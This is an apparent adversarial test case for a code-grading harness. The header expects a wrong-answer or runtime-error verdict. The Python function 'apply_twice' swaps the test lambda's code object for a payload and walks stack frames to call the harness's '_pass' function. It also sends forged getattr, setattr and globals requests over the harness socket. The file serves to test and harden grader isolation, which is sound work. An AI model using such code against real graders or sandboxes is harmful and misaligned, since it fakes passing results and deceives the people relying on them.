# attack: run code in the tests' process: through the lambda the tests pass (its __code__, __globals__,
#   __class__) and through requests forged on the program's end of the channel (getattr, setattr, globals);
#   the payload prints LEAKED there and calls the harness's own _pass
# expect: WA RE
# kind: assert
# assert: assert apply_twice(lambda v: v + 3, 1) == 7
import json
import os
import struct
import sys


def _payload():
    import sys
    print("LEAKED: code ran in the tests' process", flush=True)
    frame = sys._getframe()
    while frame is not None:
        win = frame.f_globals.get("_pass")
        if callable(win):
            win(b"asserts", None, None)
        frame = frame.f_back


FIELDS = ("co_argcount", "co_posonlyargcount", "co_kwonlyargcount", "co_nlocals", "co_stacksize", "co_flags",
          "co_code", "co_consts", "co_names", "co_varnames", "co_freevars", "co_cellvars", "co_filename",
          "co_name", "co_qualname", "co_firstlineno", "co_linetable", "co_exceptiontable")


def _channel():
    frame = sys._getframe(1)
    while frame is not None:
        me = frame.f_locals.get("self")
        if hasattr(me, "sock") and hasattr(me, "receive"):
            return me
        frame = frame.f_back
    return None


def _ask(channel, request):
    data = json.dumps(request).encode()
    channel.sock.sendall(struct.pack("!I", len(data)) + data)
    return channel.receive()


def apply_twice(f, x):
    try:
        code = f.__code__.replace(**{name: getattr(_payload.__code__, name) for name in FIELDS})
        f.__class__(code, {})()
    except Exception:
        pass
    channel = _channel()
    for request in ({"op": "getattr", "target": 0, "name": "__globals__"},
                    {"op": "getattr", "target": 0, "name": "__code__"},
                    {"op": "setattr", "target": 0, "name": "__code__", "value": None},
                    {"op": "getattr", "name": "__class__"}, {"op": "globals"}):
        try:
            print("LEAKED: the tests answered", request["op"], _ask(channel, request), flush=True)
        except Exception:
            pass
    os._exit(1)
